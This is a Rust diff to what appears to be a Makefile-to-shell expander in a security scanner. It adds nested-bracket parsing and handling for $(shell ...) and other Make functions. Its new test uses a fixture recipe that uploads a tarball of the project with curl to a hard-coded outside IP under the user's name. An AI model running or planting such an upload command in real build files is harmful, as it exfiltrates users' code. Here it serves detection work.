@@ -658,12 +658,20 @@ fn expand_into(text: &str, variables: &std::collections::HashMap<&str, &str>, de
             rest = tail;
         } else if let Some(close) = after
             .strip_prefix(['(', '{'])
-            .and_then(|inner| inner.find([')', '}']).map(|c| (inner, c)))
+            .and_then(|inner| closing_bracket(inner).map(|c| (inner, c)))
         {
             let (inner, c) = close;
             let name = &inner[..c];
             match variables.get(name) {
                 Some(value) if depth < 4 => expand_into(value, variables, depth + 1, out),
+                // Make's `$(shell cmd)` is the shell's `$(cmd)`; another function
+                // (`$(notdir $(CURDIR))`) gives a value no file shows.
+                _ if name.starts_with("shell ") => {
+                    out.push_str("$(");
+                    expand_into(&name[6..], variables, depth + 1, out);
+                    out.push(')');
+                }
+                _ if name.contains(char::is_whitespace) => out.push_str("${MAKE_FUNCTION}"),
                 _ => {
                     out.push_str("${");
                     out.push_str(name);
@@ -679,6 +687,21 @@ fn expand_into(text: &str, variables: &std::collections::HashMap<&str, &str>, de
     if out.len() + rest.len() <= MAX_EXPANDED_LINE {
         out.push_str(rest);
     }
+}
+
+/// Where the bracket opened just before `inner` closes: nested references (`$(notdir
+/// $(CURDIR))`) close inside it.
+fn closing_bracket(inner: &str) -> Option<usize> {
+    let mut depth = 0usize;
+    for (i, c) in inner.char_indices() {
+        match c {
+            '(' | '{' => depth += 1,
+            ')' | '}' if depth == 0 => return Some(i),
+            ')' | '}' => depth -= 1,
+            _ => {}
+        }
+    }
+    None
 }
 
 #[cfg(test)]
@@ -697,6 +720,18 @@ mod tests {
         );
         // Lines stay where they were, so findings keep their line numbers.
         assert_eq!(shell.lines().count(), makefile.lines().count());
+    }
+
+    #[test]
+    fn make_functions_nest_and_shell_calls_become_the_shell_s() {
+        let makefile = "NAME := $(notdir $(CURDIR))\nSTORE := http://203.0.113.45:8080/u\nr:\n\t@curl -s --upload-file /tmp/$(NAME).tgz $(STORE)/$(shell whoami)-$(NAME).tgz\n";
+        let mut variables = Vec::new();
+        make_variables(makefile, &mut variables);
+        let shell = makefile_shell(makefile, &variables);
+        assert!(
+            shell.contains("curl -s --upload-file /tmp/${MAKE_FUNCTION}.tgz http://203.0.113.45:8080/u/$(whoami)-${MAKE_FUNCTION}.tgz"),
+            "{shell}"
+        );
     }
 
     #[test]
